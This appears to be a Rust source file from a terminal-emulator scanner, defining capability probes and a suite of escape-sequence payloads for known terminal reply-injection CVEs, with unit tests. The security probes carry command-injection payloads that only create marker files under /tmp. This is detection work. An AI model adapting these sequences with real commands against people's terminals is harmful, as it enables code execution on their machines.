//! Probe definitions and the built-in probe suites.

use std::collections::HashSet;
use std::time::Duration;

use bytes::Bytes;

/// Timeout used by every built-in probe.
pub const DEFAULT_TIMEOUT: Duration = Duration::from_secs(2);

/// Names with this prefix are vulnerability probes.
pub const VULNERABILITY_PREFIX: &str = "CVE-";

/// One named control sequence sent to the terminal.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Probe {
    /// Unique name, e.g. `"DA2"` or `"CVE-2008-2383"`.
    pub name: String,

    /// Bytes written to the terminal. May be empty.
    pub sequence: Bytes,

    /// How long to wait for a reply. Zero waits forever.
    pub timeout: Duration,

    /// Substring whose presence in the reply means the payload was reflected.
    pub marker: Option<Bytes>,
}

impl Probe {
    /// Create a probe with the default timeout and no marker.
    pub fn new(name: impl Into<String>, sequence: impl Into<Bytes>) -> Self {
        Self {
            name: name.into(),
            sequence: sequence.into(),
            timeout: DEFAULT_TIMEOUT,
            marker: None,
        }
    }

    /// Set the reply timeout.
    pub fn with_timeout(mut self, timeout: Duration) -> Self {
        self.timeout = timeout;
        self
    }

    /// Set the detection marker.
    pub fn with_marker(mut self, marker: impl Into<Bytes>) -> Self {
        self.marker = Some(marker.into());
        self
    }

    /// Whether the analyzer classifies this probe.
    pub fn is_vulnerability(&self) -> bool {
        self.name.starts_with(VULNERABILITY_PREFIX)
    }
}

/// An ordered suite of probes. Order is execution order.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ProbeCatalog {
    /// Suite name used in logs.
    pub name: String,

    probes: Vec<Probe>,
}

impl ProbeCatalog {
    /// Create an empty catalog.
    pub fn new(name: impl Into<String>) -> Self {
        Self {
            name: name.into(),
            probes: Vec::new(),
        }
    }

    /// Append a probe.
    pub fn with_probe(mut self, probe: Probe) -> Self {
        self.probes.push(probe);
        self
    }

    /// Replace every non-zero timeout with `timeout`.
    ///
    /// Probes configured to wait forever keep doing so.
    pub fn with_timeout(mut self, timeout: Duration) -> Self {
        for probe in self.probes.iter_mut().filter(|p| !p.timeout.is_zero()) {
            probe.timeout = timeout;
        }
        self
    }

    /// Probes in execution order.
    pub fn probes(&self) -> &[Probe] {
        &self.probes
    }

    pub fn iter(&self) -> impl Iterator<Item = &Probe> {
        self.probes.iter()
    }

    /// Look up a probe by name.
    pub fn get(&self, name: &str) -> Option<&Probe> {
        self.probes.iter().find(|p| p.name == name)
    }

    pub fn len(&self) -> usize {
        self.probes.len()
    }

    pub fn is_empty(&self) -> bool {
        self.probes.is_empty()
    }

    /// Capability and identification probes.
    ///
    /// Nothing here carries a payload; replies are only recorded.
    pub fn capabilities() -> Self {
        Self::new("capabilities")
            .with_probe(Probe::new("ENQ", "\x05\x7f"))
            .with_probe(Probe::new("DSR", "\x1b[6n"))
            .with_probe(Probe::new("DECXCPR", "\x1b[?6n"))
            .with_probe(Probe::new("DECREQTPARM", "\x1b[x"))
            .with_probe(Probe::new("DA", "\x1b[c"))
            .with_probe(Probe::new("DA2", "\x1b[>c"))
            .with_probe(Probe::new("DA3", "\x1b[=c"))
            .with_probe(Probe::new("DECRQCRA", "\x1b[0;0;0;1;0;1*y"))
            .with_probe(Probe::new("XTVERSION", "\x1b[>q"))
            .with_probe(Probe::new("TITLE", "\x1b[21t"))
            .with_probe(Probe::new("DECRQSS_SGR", "\x1bP$qm\x1b\\"))
    }

    /// Probes for known terminal reply-injection vulnerabilities.
    ///
    /// Payloads name a file under `/tmp`; a terminal that reflects the
    /// payload back as input would have the shell run it.
    pub fn security() -> Self {
        Self::new("security")
            // xterm window title report
            .with_probe(
                Probe::new("CVE-2003-0063", "\x1b]0;touch /tmp/cve-2003-0063\x07\x1b[21t")
                    .with_marker("cve-2003-0063"),
            )
            // DECRQSS echo. No newline in the payload, or the iTerm2 and
            // kitty variants become undetectable.
            .with_probe(
                Probe::new("CVE-2008-2383", "\x1bP$q;touch /tmp/cve-2008-2383\x1b\\")
                    .with_marker("cve-2008-2383"),
            )
            // xterm.js XTGETTCAP
            .with_probe(
                Probe::new(
                    "CVE-2019-0542",
                    "\x1bP+qfoo;\ntouch /tmp/cve-2019-0542;aa\n\x1b\\",
                )
                .with_marker("cve-2019-0542;aa\n"),
            )
            // rxvt-unicode graphics escape
            .with_probe(Probe::new("CVE-2021-33477", "\x1bG").with_marker("\n"))
            // xterm font OSC
            .with_probe(
                Probe::new(
                    "CVE-2022-45063",
                    "\x1b]50;$(touch /tmp/cve-2022-45063)\x07\x1b]50;?\x07",
                )
                .with_marker("cve-2022-45063)\x07"),
            )
            // ConEmu title
            .with_probe(
                Probe::new(
                    "CVE-2022-46387",
                    "\x1b]0;\rtouch /tmp/cve-2022-46387\r\x07\x1b[21t",
                )
                .with_marker("cve-2022-46387\r"),
            )
            // iTerm2 DECRQSS
            .with_probe(
                Probe::new(
                    "CVE-2022-45872",
                    "\x1bP$q;touch /tmp/cve-2022-45872\n\x1b\\\n\x1bP$qm\x1b\\",
                )
                .with_marker("cve-2022-45872\n"),
            )
            // Sends nothing; gives a slow reply to the probes above one
            // more read to arrive in.
            .with_probe(Probe::new("pad", "").with_marker("\x1b"))
    }
}

impl<'a> IntoIterator for &'a ProbeCatalog {
    type Item = &'a Probe;
    type IntoIter = std::slice::Iter<'a, Probe>;

    fn into_iter(self) -> Self::IntoIter {
        self.probes.iter()
    }
}

/// Return the first probe name that appears more than once across `catalogs`.
pub fn find_duplicate_name<'a>(
    catalogs: impl IntoIterator<Item = &'a ProbeCatalog>,
) -> Option<&'a str> {
    let mut seen = HashSet::new();
    catalogs
        .into_iter()
        .flat_map(|c| c.iter())
        .map(|p| p.name.as_str())
        .find(|name| !seen.insert(*name))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_builtin_names_are_unique() {
        let caps = ProbeCatalog::capabilities();
        let sec = ProbeCatalog::security();
        assert_eq!(find_duplicate_name([&caps, &sec]), None);
    }

    #[test]
    fn test_duplicate_detected() {
        let a = ProbeCatalog::new("a").with_probe(Probe::new("DA", "\x1b[c"));
        let b = ProbeCatalog::new("b").with_probe(Probe::new("DA", "\x1b[0c"));
        assert_eq!(find_duplicate_name([&a, &b]), Some("DA"));
    }

    #[test]
    fn test_security_probes_carry_markers() {
        for probe in &ProbeCatalog::security() {
            assert!(probe.marker.is_some(), "{} has no marker", probe.name);
        }
    }

    #[test]
    fn test_vulnerability_naming() {
        let sec = ProbeCatalog::security();
        assert!(sec.get("CVE-2008-2383").unwrap().is_vulnerability());
        assert!(!sec.get("pad").unwrap().is_vulnerability());
        assert!(ProbeCatalog::capabilities().iter().all(|p| !p.is_vulnerability()));
    }

    #[test]
    fn test_pad_probe_is_last_and_silent() {
        let sec = ProbeCatalog::security();
        let last = sec.probes().last().unwrap();
        assert_eq!(last.name, "pad");
        assert!(last.sequence.is_empty());
    }

    #[test]
    fn test_with_timeout_keeps_unbounded_probes() {
        let catalog = ProbeCatalog::new("t")
            .with_probe(Probe::new("a", "x"))
            .with_probe(Probe::new("b", "y").with_timeout(Duration::ZERO))
            .with_timeout(Duration::from_millis(250));

        assert_eq!(catalog.get("a").unwrap().timeout, Duration::from_millis(250));
        assert_eq!(catalog.get("b").unwrap().timeout, Duration::ZERO);
    }
}
